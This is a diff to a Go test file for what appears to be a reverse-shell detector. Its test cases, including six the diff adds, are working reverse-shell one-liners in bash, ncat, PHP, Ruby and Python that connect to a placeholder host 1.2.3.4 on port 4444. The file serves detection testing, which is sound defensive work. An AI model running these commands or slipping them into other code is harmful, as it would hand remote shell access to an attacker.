@@ -13,6 +13,12 @@ func TestReverseShell(t *testing.T) {
 		{name: "exec fd 196", script: "0<&196;exec 196<>/dev/tcp/1.2.3.4/4444; sh <&196 >&196 2>&196", want: rs},
 		{name: "read loop", script: "exec 5<>/dev/tcp/1.2.3.4/4444; cat <&5 | while read line; do $line 2>&5 >&5; done", want: rs},
 		{name: "read -u loop", script: "exec 5<>/dev/tcp/1.2.3.4/4444; while read -u 5 c; do eval \"$c\" >&5 2>&5; done", want: rs},
+		{name: "compound redirected", script: "bash -c '{ bash -i; } >& /dev/tcp/1.2.3.4/4444 0>&1'", want: rs},
+		{name: "exec builtin", script: "/bin/bash -c 'exec bash -i &>/dev/tcp/1.2.3.4/4444 <&1'", want: rs},
+		{name: "background subshell", script: "(bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 &)", want: rs},
+		{name: "ncat ssl", script: "ncat --ssl 1.2.3.4 4444 -e /bin/bash", want: rs},
+		{name: "php proc_open", script: `php -r '$s=fsockopen("1.2.3.4",4444);$proc=proc_open("/bin/sh -i", array(0=>$s, 1=>$s, 2=>$s),$pipes);'`, want: rs},
+		{name: "ruby popen loop", script: `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("1.2.3.4","4444");loop{c.gets.chomp!;IO.popen($_,"r"){|io|c.print io.read}}'`, want: rs},
 		{name: "quoted dev tcp", script: `bash -c 'bash -i >& "/dev/tcp/$H/4444" 0>&1'`, want: rs},
 		{name: "decoded in python os.system", script: `python3 -c "import os; os.system('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')"`, want: rs},
 
